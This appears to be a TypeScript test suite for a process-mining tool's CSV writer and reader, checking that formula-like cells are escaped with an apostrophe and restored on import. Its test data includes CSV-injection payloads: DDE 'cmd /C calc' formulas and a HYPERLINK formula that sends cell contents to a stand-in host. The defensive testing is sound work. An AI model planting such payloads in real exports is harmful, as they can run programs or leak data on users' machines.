import { mkdtemp, readFile, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, expect, test } from "vitest";
import { readCsvTable } from "../../../src/io/csv/csv.ts";
import { withFormulaMark, withoutFormulaMark } from "../../../src/io/csv/formula_marks.ts";
import { writeCsv } from "../../../src/io/csv/write_csv.ts";
import { interactionsFromRows, logFromRows, readInteractions, readLog } from "../../../src/log/mod.ts";
import { writeInteractions, writeLog } from "../../../src/log/mod.ts";
import { bytesOf, randomOf, rowsOf } from "./csv_cases.ts";
import { tb } from "../../support/tb.ts";

let folder: string;
beforeAll(async () => void (folder = await mkdtemp(join(tmpdir(), "formulas-"))));
afterAll(() => rm(folder, { recursive: true }));

/** Cells from OWASP's page on CSV injection and reports of it, and how a spreadsheet is to be kept from running them. */
const FORMULAS = [
  "=1+1",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  "+1+cmd|' /C notepad'!A1",
  "+49 30 123456",
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\uff1d1+1",
  "-",
  "'=1+1",
  "''@x",
];
const HARMLESS = ["-5", "-12.50", "-1,234.5", "-1e-7", "plain", "'quoted'", "'-5", "a=b", " =1", "5-3", "", "'", "''"];

test("what a spreadsheet may run stands behind an apostrophe, all else as it was", () => {
  for (const text of FORMULAS) expect(withFormulaMark(text)).toBe(`'${text}`);
  for (const text of HARMLESS) expect(withFormulaMark(text)).toBe(text);
});

test("taking the mark away gives every text back", () => {
  const signs = ["'", "=", "-", "+", "@", "\t", "5", ".", "a", "\r", " ", "e"];
  const random = randomOf(13);
  for (let i = 0; i < 20_000; i++) {
    const text = Array.from({ length: random(6) }, () => signs[random(signs.length)]).join("");
    const marked = withFormulaMark(text);
    expect(withoutFormulaMark(marked)).toBe(text);
    // What is written never begins as a formula, but for a negative number.
    expect(/^[=+@\t\r\n]|^-(?!\d)/.test(marked)).toBe(false);
  }
});

const rows = [...FORMULAS, ...HARMLESS].filter((text) => text.trim() !== "").map((activity, i) => ({
  case: activity,
  activity,
  time: new Date(Date.UTC(2026, 0, 1, 8, i)),
  "=attribute": i % 2 ? activity : "other",
  amount: -i,
}));

test("a log that is exported and read again is the same log; the marks are counted", async () => {
  const log = logFromRows(rows);
  for (const name of ["log.csv", "log.csv.gz"]) {
    const path = join(folder, name);
    await writeLog(log, path);
    const back = await readLog(path);
    expect(back.activities).toEqual(log.activities);
    expect(back.caseIds).toEqual(log.caseIds);
    expect(back.attributes).toEqual(log.attributes);
    expect(back.attribute("=attribute")).toEqual({
      ...log.attribute("=attribute")!,
      ...textOf(back.attribute("=attribute")!),
    });
    expect(back.source.findings.find(({ rule }) => rule === "formula mark")?.count).toBeGreaterThanOrEqual(
      FORMULAS.length,
    );
  }
  const text = await readFile(join(folder, "log.csv"), "utf8");
  expect(text).toMatch(/^case,activity,time,'=attribute,amount\n/);
  expect(text).toContain(",-7\n");
  const { table } = await readCsvTable(join(folder, "log.csv"));
  for (const [first, activity] of rowsOf(table)) {
    for (const cell of [first, activity]) expect(String(cell)).not.toMatch(/^[=+@\t\r\n]|^-(?!\d)/);
  }
});

function textOf(column: object): object {
  return {
    codes: (column as { codes: Int32Array }).codes,
    dictionary: (column as { dictionary: string[] }).dictionary,
  };
}

test("interactions too: what was typed into a spreadsheet comes back", async () => {
  const log = interactionsFromRows(rows.map(({ activity, time }) => ({
    time,
    user: "u1",
    app: "Calc",
    action: "edit",
    element: "B2",
    value: activity,
  })));
  const path = join(folder, "acts.csv");
  await writeInteractions(log, path);
  const back = await readInteractions(path, { privacy: false });
  const values = (one: typeof log) =>
    Array.from(one.rows, (_, i) => {
      const column = one.attribute("value");
      return column?.kind === "text" ? column.dictionary[column.codes[i]!] : undefined;
    });
  expect(values(back)).toEqual(values(log));
  expect(values(back)).toContain("=1+1");
});

test("formulas are kept where that is asked for, in writing and in reading", async () => {
  const path = join(folder, "kept.csv");
  await writeLog(logFromRows(rows), path, { formulas: "keep" });
  expect(await readFile(path, "utf8")).toContain("\n=1+1,=1+1,");
  await writeCsv(
    { rows: 1, columns: [{ kind: "text", name: "x", codes: Int32Array.of(0), dictionary: ["=1"] }] },
    path,
    {
      formulas: "keep",
    },
  );
  expect(await readFile(path, "utf8")).toBe("x\n=1\n");
  const marked = "case,activity,time\n'=1,'=a,2026-01-01\n=1,b,2026-01-02\n";
  const bytes = bytesOf(marked);
  await writeFileOf(join(folder, "marked.csv"), bytes);
  expect((await readLog(join(folder, "marked.csv"), { formulaMarks: "keep" })).caseIds).toEqual(["'=1", "=1"]);
  // The same value with and without a mark is one case.
  const log = await readLog(join(folder, "marked.csv"));
  expect([log.caseIds, log.activities]).toEqual([["=1"], ["=a", "b"]]);
});

async function writeFileOf(path: string, bytes: Uint8Array): Promise<void> {
  await Deno.writeFile(path, bytes);
}

test("tb conform --cases marks, and keeps with --keep-formulas", async () => {
  const events = join(folder, "events.csv"), model = join(folder, "model.ptml"), cases = join(folder, "cases.csv");
  await Deno.writeTextFile(
    events,
    "case,activity,time\n=A1,a,2026-01-01\n=A1,b,2026-01-02\n-5,a,2026-01-03\n-5,b,2026-01-04\n",
  );
  await tb("discover", "inductive", events, "--out", model);
  expect((await tb("conform", "alignments", events, "--model", model, "--cases", cases)).code).toBe(0);
  expect(await readFile(cases, "utf8")).toMatch(/^'=A1,/m);
  expect(await readFile(cases, "utf8")).toMatch(/^-5,/m);
  expect((await tb("conform", "alignments", events, "--model", model, "--cases", cases, "--keep-formulas")).code).toBe(
    0,
  );
  expect(await readFile(cases, "utf8")).toMatch(/^=A1,/m);
});
